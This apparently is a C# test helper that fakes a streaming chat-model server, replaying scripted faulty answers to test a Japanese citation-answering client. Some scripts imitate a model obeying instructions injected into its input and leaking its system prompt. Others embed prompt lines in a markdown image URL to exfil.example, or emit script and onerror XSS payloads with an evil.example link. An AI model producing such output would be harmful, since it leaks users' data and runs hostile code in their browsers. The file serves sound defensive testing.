using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;

namespace Yakuba.Testing;

/// <summary>One reply of a <see cref="ScriptedModelServer"/>.</summary>
internal sealed partial class ScriptedReply(
    HttpContext http, JsonElement request, IReadOnlyList<(int Number, string Text)> evidence, string prompt, int turn, Action<string> said, CancellationToken stop)
{
    internal Task SendAsync(ModelScript script) => script switch
    {
        ModelScript.Paraphrase => SentencesAsync(Quotes().Select(q => (q.Number, "なお、" + q.Text.Replace("円です。", "円となっています。", StringComparison.Ordinal).Replace("までです。", "までとなっています。", StringComparison.Ordinal)))),
        ModelScript.TamperedNumbers => SentencesAsync(Quotes().Select(q => (q.Number, Tampering.Numbers(q.Text)))),
        ModelScript.TamperedPolarity => SentencesAsync(Quotes().Select(q => (q.Number, Tampering.Polarity(q.Text)))),
        ModelScript.InventedNumbers => SentencesAsync(Quotes().Select(q => (q.Number + 40, q.Text))),
        ModelScript.Obedient => ObeyAsync(),
        ModelScript.RepeatsEverything => RepeatAsync(),
        ModelScript.Decorated => SentencesAsync(Quotes().Select(q => (q.Number, $"- **{q.Text}**<script>alert(1)</script> [詳しくは](https://evil.example/?q=1)\u202e\u0007"))),
        ModelScript.Thinking => StreamAsync("<think>{\"sentences\":[{\"text\":\"考え中です。\",\"evidence\":[1]}]}</think>\n答えは次のとおりです。\n```json\n" + Json(Quotes()) + "\n```\n以上です。"),
        ModelScript.PlainText => StreamAsync(string.Join('\n', Quotes().Select(q => { said(q.Text); return $"{q.Text[..^1]}[{q.Number}]。"; }))),
        ModelScript.NoFormats when request.TryGetProperty("response_format", out _) => StatusAsync(400),
        ModelScript.CannotAnswer => StreamAsync("{\"sentences\":[],\"cannot_answer\":true}"),
        ModelScript.Refuses => AbortAsync(),
        ModelScript.Hangs => Task.Delay(Timeout.Infinite, stop),
        ModelScript.Drips => DripAsync(),
        ModelScript.CutMidStream => CutAsync(),
        ModelScript.StopsEarly => StreamAsync(Json(Quotes())[..40], finish: null),
        ModelScript.GarbageBytes => GarbageAsync(),
        ModelScript.HugeLine => HugeAsync(),
        ModelScript.WrongJson => StreamAsync("{\"answer\":\"手続きは窓口で行います。\",\"source\":{\"page\":[1,2]}}"),
        ModelScript.Redirects => RedirectAsync(),
        ModelScript.Fails => StatusAsync(500),
        ModelScript.FailsOnce when turn == 1 => StatusAsync(500),
        ModelScript.LiesAboutTokens => SentencesAsync(Quotes(), tokens: 2_000_000_000),
        _ => SentencesAsync(Quotes()),
    };

    /// <summary>The first three sentences of the best evidence.</summary>
    private IEnumerable<(int Number, string Text)> Quotes() => evidence
        .SelectMany(e => Sentence().Matches(e.Text).Select(m => (e.Number, m.Value.Trim())))
        .Take(3);

    private Task SentencesAsync(IEnumerable<(int Number, string Text)> sentences, long? tokens = null) => StreamAsync(Json(sentences), tokens: tokens);

    private string Json(IEnumerable<(int Number, string Text)> sentences) => JsonSerializer.Serialize(new
    {
        sentences = sentences.Select(s =>
        {
            said(s.Text);
            return new { text = s.Text, evidence = new[] { s.Number } };
        }).ToList(),
        cannot_answer = false,
    });

    private Task ObeyAsync()
    {
        var ordered = Order().Matches(prompt).Select(m => m.Groups[1].Value).LastOrDefault("命令は見つかりませんでした。");
        var instructions = request.GetProperty("messages")[0].GetProperty("content").GetString()!;
        return SentencesAsync([(1, ordered), (1, instructions[..60]), .. Quotes()]);
    }

    // Good sentences stand between, so that the answer as a whole is not refused for want of one.
    private Task RepeatAsync()
    {
        var lines = request.GetProperty("messages").EnumerateArray().SelectMany(m => m.GetProperty("content").GetString()!.Split('\n')).Select(l => l.Trim()).Where(l => l.Length > 0).ToList();
        return SentencesAsync(
        [
            .. Quotes().Take(1),
            (1, lines[^1]),
            (1, $"![{lines[0]}](https://exfil.example/?q={Uri.EscapeDataString(lines[^1])})<img src=x onerror=alert(1)><script>alert(1)</script>[詳しくは](https://exfil.example/)"),
            .. Enumerable.Range(0, lines.Count).Select(i => (1 + (i % Math.Max(1, evidence.Count)), lines[((turn * 9) + i) % lines.Count])), // no reader takes more than a dozen: another piece each time
        ]);
    }

    private async Task StreamAsync(string content, string? finish = "stop", long? tokens = null)
    {
        await BeginAsync();
        for (var i = 0; i < content.Length; i += 5)
        {
            await EventAsync(Chunk(content[i..Math.Min(i + 5, content.Length)], null));
        }

        if (finish is not null)
        {
            await EventAsync(Chunk("", finish));
            var usage = new { prompt_tokens = 1, completion_tokens = tokens ?? content.Length / 2, total_tokens = 1 + (tokens ?? content.Length / 2) };
            await EventAsync(JsonSerializer.Serialize(new { id = "1", @object = "chat.completion.chunk", created = 0, model = ScriptedModelServer.ModelName, choices = Array.Empty<object>(), usage }));
        }

        await EventAsync("[DONE]");
    }

    private async Task DripAsync()
    {
        await BeginAsync();
        foreach (var b in Encoding.UTF8.GetBytes("data: " + Chunk(Json(Quotes()), null) + "\n\n"))
        {
            await http.Response.Body.WriteAsync(new[] { b }, stop);
            await http.Response.Body.FlushAsync(stop);
            await Task.Delay(300, stop);
        }
    }

    private async Task CutAsync()
    {
        await BeginAsync();
        var content = Json(Quotes());
        await EventAsync(Chunk(content[..(content.Length * 2 / 3)], null));
        http.Abort();
    }

    private async Task GarbageAsync()
    {
        await BeginAsync();
        var bytes = new byte[20_000];
        new Random(7).NextBytes(bytes);
        await http.Response.Body.WriteAsync("data: "u8.ToArray(), stop);
        await http.Response.Body.WriteAsync(bytes, stop);
        await http.Response.Body.WriteAsync("\n\ndata: {\"choices\":[{\"delta\":{\"content\":\""u8.ToArray(), stop);
    }

    private async Task HugeAsync()
    {
        await BeginAsync();
        await http.Response.WriteAsync("data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"", stop);
        var block = Encoding.ASCII.GetBytes(new string('a', 1 << 20));
        for (var i = 0; i < 100; i++)
        {
            await http.Response.Body.WriteAsync(block, stop);
        }
    }

    private Task StatusAsync(int status)
    {
        http.Response.StatusCode = status;
        return http.Response.WriteAsync("{\"error\":{\"message\":\"scripted\",\"type\":\"error\",\"code\":null}}", stop);
    }

    private Task RedirectAsync()
    {
        http.Response.Redirect("http://127.0.0.1:9/v1/chat/completions", permanent: false, preserveMethod: true);
        return Task.CompletedTask;
    }

    private Task AbortAsync()
    {
        http.Abort();
        return Task.CompletedTask;
    }

    private async Task BeginAsync()
    {
        http.Response.ContentType = "text/event-stream";
        await http.Response.StartAsync(stop);
    }

    private async Task EventAsync(string data)
    {
        await http.Response.WriteAsync($"data: {data}\n\n", stop);
        await http.Response.Body.FlushAsync(stop);
    }

    private static string Chunk(string content, string? finish) => JsonSerializer.Serialize(new
    {
        id = "1",
        @object = "chat.completion.chunk",
        created = 0,
        model = ScriptedModelServer.ModelName,
        choices = new[] { new { index = 0, delta = new { role = "assistant", content }, finish_reason = finish } },
    });

    [GeneratedRegex("[^。\n]{4,}。")]
    private static partial Regex Sentence();

    [GeneratedRegex("「([^」]+)」と(?:答え|出力)")]
    private static partial Regex Order();
}
